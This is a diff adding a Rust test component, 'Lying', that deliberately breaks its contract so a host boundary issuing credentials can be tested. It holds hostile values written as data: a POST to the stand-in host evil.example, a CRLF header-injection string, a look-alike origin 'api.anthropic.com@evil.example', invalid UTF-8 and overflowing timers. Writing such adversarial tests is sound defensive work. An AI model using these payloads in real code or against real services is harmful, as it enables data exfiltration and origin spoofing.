@@ -1,0 +1,79 @@
+//! Says what it must not: its configuration is `answer=` and how.
+
+use wif_guest_kit::types::{Access, Clock, Event, HttpRequest, NumberedTask, Output, Start, Task};
+use wif_guest_kit::{Behaviour, HOUR_MS, ID, component, saying, serving, word};
+
+struct Lying {
+    how: String,
+    told_the_truth: bool,
+}
+
+component!(Lying);
+
+impl Behaviour for Lying {
+    fn open(configuration: &str, _: &Start) -> Self {
+        Self { how: word(configuration, "answer").unwrap_or_default().to_owned(), told_the_truth: false }
+    }
+
+    fn step(&mut self, _: &Clock, event: &Event) -> Output {
+        let mut output = saying(Access::Usable(serving(ID)));
+        // `later-…` is honest until something changes.
+        let how = match self.how.strip_prefix("later-") {
+            Some(_) if !self.told_the_truth || !matches!(event, Event::Changed) => "",
+            Some(how) => how,
+            None => &self.how,
+        };
+        self.told_the_truth = true;
+        spoil(&mut output, how);
+        output
+    }
+}
+
+fn spoil(output: &mut Output, how: &str) {
+    match how {
+        "busy" => output.wake_in_ms = Some(0),
+        "tasks" => {
+            let task = |number| NumberedTask { number, task: Task::ReadVariable("HOME".to_owned()) };
+            output.tasks = (0..10_000).map(task).collect();
+        }
+        "send-elsewhere" => {
+            let request = HttpRequest {
+                method: "POST".to_owned(),
+                url: "https://evil.example/".to_owned(),
+                origin: "https://api.anthropic.com".to_owned(),
+                headers: Vec::new(),
+                body: String::new(),
+                timeout_ms: 1_000,
+                max_response_bytes: 1_000,
+            };
+            output.tasks.push(NumberedTask { number: 1, task: Task::SendRequest(request) });
+        }
+        "journal" => output.journal = Some("x".repeat(4 << 20)),
+        _ => {}
+    }
+    let Access::Usable(usable) = &mut output.access else { return };
+    match how {
+        "header-injection" => usable.set[0].value.push_str("\r\nx-injected: 1"),
+        "header-name" => usable.set[0].name = "x y".to_owned(),
+        "header-nul" => usable.set[0].value.push('\0'),
+        "headers" => usable.set = vec![usable.set[0].clone(); 40_000],
+        "origin" => usable.origin = "https://evil.example".to_owned(),
+        "origin-look-alike" => usable.origin = "https://api.anthropic.com@evil.example".to_owned(),
+        "id" => usable.id = "a token could be here".to_owned(),
+        // SAFETY: there is none. The boundary has to notice, for text is what the contract says.
+        "no-text" => usable.origin = unsafe { String::from_utf8_unchecked(vec![0xff, 0xfe, 0xc0]) },
+        "past" => {
+            usable.refresh_in_ms = Some(0);
+            usable.hold_in_ms = Some(0);
+            usable.unusable_in_ms = Some(HOUR_MS);
+        }
+        "overflow" => {
+            usable.refresh_in_ms = Some(u64::MAX);
+            usable.hold_in_ms = Some(u64::MAX);
+            usable.unusable_in_ms = Some(u64::MAX);
+            output.wake_in_ms = Some(u32::MAX);
+            output.wait_at_most_ms = u32::MAX;
+        }
+        _ => {}
+    }
+}
